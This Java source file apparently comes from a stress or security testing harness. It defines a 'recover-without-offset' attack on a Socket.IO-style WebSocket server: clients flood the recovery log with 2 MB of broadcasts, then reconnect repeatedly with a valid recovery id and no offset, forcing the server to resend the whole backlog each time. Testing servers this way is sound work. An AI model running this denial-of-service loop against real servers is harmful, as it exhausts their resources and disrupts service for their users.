package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.RawWebSocket;
import java.io.IOException;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** A client without an offset has missed everything since it first connected. The server sends it all of that each time. */
final class RecoverWithoutOffset implements Attack {
    private static final int CLIENTS = 4;
    private static final int BROADCASTS = 200;
    private static final String BROADCAST = "421[\"sendMsg\",\"" + "b".repeat(10_000) + "\"]";
    private static final Pattern RECOVERY_ID = Pattern.compile("\"pid\":\"([^\"]+)\"");

    @Override
    public String name() {
        return "recover-without-offset";
    }

    @Override
    public String summary() {
        return "4 clients reconnect again and again, with a valid recovery id and without an offset, after 2 MB of broadcasts";
    }

    @Override
    public boolean needsRecovery() {
        return true;
    }

    @Override
    public boolean isPointlessWithoutRecovery() {
        return true;
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(CLIENTS, () -> session(attacker));
    }

    private static void session(Attacker attacker) throws IOException {
        String id;
        try (RawWebSocket client = attacker.webSocket()) {
            id = recoveryId(client.connect());
            client.drainInBackground();
            fillLog(attacker);
        }
        while (!attacker.isStopped()) {
            try (RawWebSocket client = attacker.webSocket()) {
                id = recoveryId(client.connect("{\"pid\":\"" + id + "\"}"));
                attacker.count();
            }
        }
    }

    /** Sends a quarter of the broadcasts, as there are four clients. They count for all clients that are connected before. */
    private static void fillLog(Attacker attacker) throws IOException {
        try (RawWebSocket sender = attacker.webSocket()) {
            sender.connect();
            for (int i = 0; i < BROADCASTS / CLIENTS; i++) {
                sender.send(BROADCAST);
                sender.await("431");
            }
        }
    }

    private static String recoveryId(String packet) throws IOException {
        Matcher matcher = RECOVERY_ID.matcher(packet);
        if (!matcher.find()) {
            throw new IOException("no recovery id: " + packet);
        }
        return matcher.group(1);
    }
}
